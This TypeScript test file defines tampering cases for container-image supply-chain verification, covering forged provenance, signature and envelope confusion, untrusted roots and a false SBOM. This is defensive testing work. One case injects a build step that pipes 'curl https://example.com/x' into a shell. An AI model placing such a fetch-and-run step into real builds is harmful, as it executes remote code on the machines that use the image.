import { digestOf } from '../../src/base/digest.ts';
import { type BuiltImage, buildImage } from '../../testkit/image.ts';
import {
  BASE_DIGEST,
  BUILT,
  buildkitProvenance,
  DOCKERFILE,
  type ProvenanceChanges,
  REVISION,
} from '../../testkit/provenance.ts';
import type { SignOptions } from '../../testkit/sigstore.ts';
import { blobPath } from '../../testkit/store.ts';
import type { Tampered, TamperingCase, Untampered } from './tampering-case.ts';

const OTHER_DIGEST = digestOf(Buffer.from('another image'));
const OTHER_REVISION = 'decaf'.padEnd(40, '0');
const SPDX = 'https://spdx.dev/Document';

/** A provenance with a change in it, signed by whom is trusted. */
function provenance(name: string, links: TamperingCase['links'], changes: ProvenanceChanges): TamperingCase {
  return { name, links, make: async (of) => signed(of, buildkitProvenance(of.image, changes)) };
}

async function signed(
  { image, sigstore }: Untampered,
  statement: object | Buffer,
  options: SignOptions = {},
): Promise<Tampered> {
  return {
    image,
    attached: [{ kind: 'referrer', content: await sigstore.signStatement(statement, options) }],
  };
}

/** The provenance as it is, signed in another way. */
function signature(name: string, options: SignOptions): TamperingCase {
  const links = ['provenance', 'signature'] as const;
  return { name, links, make: async (of) => signed(of, buildkitProvenance(of.image), options) };
}

function rebuilt(changes: Parameters<typeof buildImage>[0]): BuiltImage {
  return buildImage(changes);
}

/** Tampering with an image and with statements about it. */
export const STATEMENT_CASES: readonly TamperingCase[] = [
  {
    name: 'a layer swapped for another of the same length',
    links: ['bytes'],
    make: async ({ image }) => ({
      image,
      files: (files) => {
        const [layer] = image.layers;
        if (layer === undefined) throw new Error('no layer');
        files.set(blobPath(layer), Buffer.alloc(layer.size, 1));
      },
      afresh: true,
    }),
  },
  {
    name: 'the configuration edited in its place',
    links: [],
    make: async ({ image }) => ({
      image,
      files: (files) => {
        const text = image.config.bytes.toString('utf8').replace('"/app"', '"/bad"');
        files.set(blobPath(image.config), Buffer.from(text));
      },
    }),
  },
  {
    name: 'the history rewritten; the provenance is that of the image before',
    links: ['provenance', 'signature'],
    make: async (of) => {
      const image = rebuilt({ ...BUILT, history: [] });
      return { ...(await signed(of, buildkitProvenance(of.image))), image };
    },
  },
  {
    name: 'the history rewritten, and the provenance made anew for it',
    links: ['dockerfile', 'provenance'],
    make: async ({ sigstore }) => {
      const [base, arg, copy, run, cmd] = BUILT.steps;
      if (!base || !arg || !copy || !run || !cmd) throw new Error('no steps');
      const other = {
        ...run,
        createdBy: 'RUN |1 VERSION=7 /bin/sh -c curl -sf https://example.com/x | sh # buildkit',
      };
      const image = rebuilt({ ...BUILT, steps: [base, arg, copy, other, cmd] });
      const content = await sigstore.signStatement(buildkitProvenance(image));
      return { image, attached: [{ kind: 'referrer', content }] };
    },
  },
  {
    name: 'a step that no Dockerfile has added to the image, provenance made anew',
    links: ['dockerfile', 'provenance'],
    make: async ({ sigstore }) => {
      const added = {
        createdBy: 'COPY x /x # buildkit',
        comment: 'buildkit.dockerfile.v0',
        items: [{ path: 'x', data: 'x' }],
      };
      const image = rebuilt({ ...BUILT, steps: [...BUILT.steps, added] });
      const content = await sigstore.signStatement(buildkitProvenance(image));
      return { image, attached: [{ kind: 'referrer', content }] };
    },
  },
  provenance('provenance of another digest', ['provenance', 'signature'], { subject: OTHER_DIGEST }),
  provenance('provenance of the right digest with another Dockerfile', ['dockerfile', 'provenance'], {
    dockerfile: 'FROM base.example.com/base:2\nRUN something else\n',
  }),
  provenance('provenance whose Dockerfile differs in one word', ['dockerfile', 'provenance'], {
    dockerfile: DOCKERFILE.replace('make', 'cmake'),
  }),
  provenance('provenance with another build argument', ['dockerfile', 'provenance'], {
    args: { VERSION: '8' },
  }),
  provenance('provenance of another revision than the label says', ['provenance'], {
    revision: OTHER_REVISION,
  }),
  provenance('provenance of another repository than the label says', ['provenance'], {
    uri: 'https://git.example.com/other.git',
    gitContext: true,
  }),
  provenance('provenance for another platform', ['provenance'], { platform: 'linux/arm64' }),
  {
    name: 'the base swapped under the same tag',
    links: ['base', 'provenance'],
    make: async (of) => {
      const image = rebuilt({
        ...BUILT,
        annotations: {
          'org.opencontainers.image.base.name': 'base.example.com/base:2',
          'org.opencontainers.image.base.digest': BASE_DIGEST,
        },
      });
      return signed({ ...of, image }, buildkitProvenance(image, { baseDigest: OTHER_DIGEST }));
    },
  },
  {
    name: 'two subjects of one name with different digests',
    links: ['provenance', 'signature'],
    make: async (of) => {
      const subjects = [of.image.manifest.digest, OTHER_DIGEST].map((digest) => ({
        name: 'pkg:docker/app@1',
        digest: { sha256: digest.slice(7) },
      }));
      return signed(of, buildkitProvenance(of.image, { subjects }));
    },
  },
  {
    name: 'a key twice in the JSON of the statement',
    links: ['provenance'],
    make: async (of) => {
      const text = JSON.stringify(buildkitProvenance(of.image));
      return { image: of.image, attached: [], provenance: Buffer.from(text.replace('{', '{"subject":[],')) };
    },
  },
  {
    name: 'a key twice in the JSON inside a signed envelope',
    links: ['signature'],
    make: async (of) => {
      const text = JSON.stringify(buildkitProvenance(of.image));
      return signed(of, Buffer.from(text.replace('{', '{"subject":[],')));
    },
  },
  {
    name: 'a payload signed as another type (payload type confusion)',
    links: ['signature'],
    make: async (of) => signed(of, buildkitProvenance(of.image), { payloadType: 'application/json' }),
  },
  {
    name: 'the payload type of an envelope changed after it was signed',
    links: ['provenance', 'signature'],
    make: async (of) => {
      const bundle = await of.sigstore.signStatement(buildkitProvenance(of.image), {
        payloadType: 'application/json',
      });
      const dsseEnvelope = { ...bundle.dsseEnvelope, payloadType: 'application/vnd.in-toto+json' };
      return { image: of.image, attached: [{ kind: 'referrer', content: { ...bundle, dsseEnvelope } }] };
    },
  },
  {
    name: 'the payload of an envelope swapped after it was signed',
    links: ['provenance', 'signature'],
    make: async (of) => {
      const bundle = await of.sigstore.signStatement(buildkitProvenance(of.image, { subject: OTHER_DIGEST }));
      const payload = Buffer.from(JSON.stringify(buildkitProvenance(of.image))).toString('base64');
      const dsseEnvelope = { ...bundle.dsseEnvelope, payload };
      return { image: of.image, attached: [{ kind: 'referrer', content: { ...bundle, dsseEnvelope } }] };
    },
  },
  signature('a statement signed by another identity', {
    identity: 'https://git.example.com/fork/.ci/release.yml',
  }),
  signature('the right identity, vouched for by another issuer', {
    issuer: 'https://token.elsewhere.example.com',
  }),
  {
    name: 'the right identity in a run at another commit than the label and the statement say',
    links: ['source', 'provenance'],
    make: async (of) =>
      signed(of, buildkitProvenance(of.image, { gitContext: true }), {
        run: { 12: 'https://git.example.com/app', 13: OTHER_REVISION },
      }),
  },
  {
    name: 'a workflow of another repository signs a provenance that names this one',
    links: ['provenance'],
    make: async (of) => {
      const repository = 'https://git.example.com/app';
      const statement = {
        ...buildkitProvenance(of.image),
        predicate: {
          buildDefinition: {
            buildType: 'https://actions.github.io/buildtypes/workflow/v1',
            externalParameters: { workflow: { repository, path: '.github/workflows/release.yml' } },
            resolvedDependencies: [
              { uri: `git+${repository}@refs/heads/main`, digest: { gitCommit: REVISION } },
            ],
          },
        },
      };
      return signed(of, statement, { run: { 12: 'https://git.example.com/fork', 13: REVISION } });
    },
  },
  signature('an expired certificate and no timestamp', { unlogged: true }),
  signature('a certificate that had expired when it was used', { issuedHoursAgo: 5 }),
  {
    name: 'a statement signed under a root that nobody trusts',
    links: ['provenance', 'signature'],
    make: async ({ image, stranger }) => ({
      image,
      attached: [{ kind: 'referrer', content: await stranger.signStatement(buildkitProvenance(image)) }],
    }),
  },
  {
    name: 'the log proof of another entry',
    links: ['provenance', 'signature'],
    make: async (of) => {
      const entryOf = await of.sigstore.signStatement(
        buildkitProvenance(of.image, { revision: OTHER_REVISION }),
      );
      return signed(of, buildkitProvenance(of.image), { entryOf });
    },
  },
  {
    name: 'a truncated bundle',
    links: ['signature'],
    make: async ({ image, sigstore }) => {
      const bundle = Buffer.from(JSON.stringify(await sigstore.signStatement(buildkitProvenance(image))));
      return { image, attached: [{ kind: 'referrer', content: bundle.subarray(0, bundle.length / 2) }] };
    },
  },
  {
    name: 'a bundle without its certificate',
    links: ['provenance', 'signature'],
    make: async ({ image, sigstore }) => {
      const bundle = await sigstore.signStatement(buildkitProvenance(image));
      const { tlogEntries } = bundle.verificationMaterial;
      return {
        image,
        attached: [{ kind: 'referrer', content: { ...bundle, verificationMaterial: { tlogEntries } } }],
      };
    },
  },
  {
    name: "cosign's signature of another image under this image's tag",
    links: ['signature'],
    make: async ({ image, sigstore }) => ({
      image,
      attached: [{ kind: 'cosign', signature: await sigstore.signImage(OTHER_DIGEST) }],
    }),
  },
  {
    name: "cosign's signature with the digest changed after it was signed",
    links: ['signature'],
    make: async ({ image, sigstore }) => {
      const { payload, annotations } = await sigstore.signImage(OTHER_DIGEST);
      const changed = payload.toString('utf8').replace(OTHER_DIGEST, image.manifest.digest);
      return {
        image,
        attached: [{ kind: 'cosign', signature: { payload: Buffer.from(changed), annotations } }],
      };
    },
  },
  {
    name: 'a signed list of contents with a package that is not there',
    links: ['sbom'],
    make: async (of) => {
      const externalRefs = [{ referenceType: 'purl', referenceLocator: 'pkg:deb/debian/curl@7.88.1' }];
      const predicate = { spdxVersion: 'SPDX-2.3', packages: [{ name: 'curl', externalRefs }] };
      const subject = [{ name: 'app', digest: { sha256: of.image.manifest.digest.slice(7) } }];
      const contents = { _type: 'https://in-toto.io/Statement/v1', predicateType: SPDX, subject, predicate };
      return signed(of, contents);
    },
  },
];
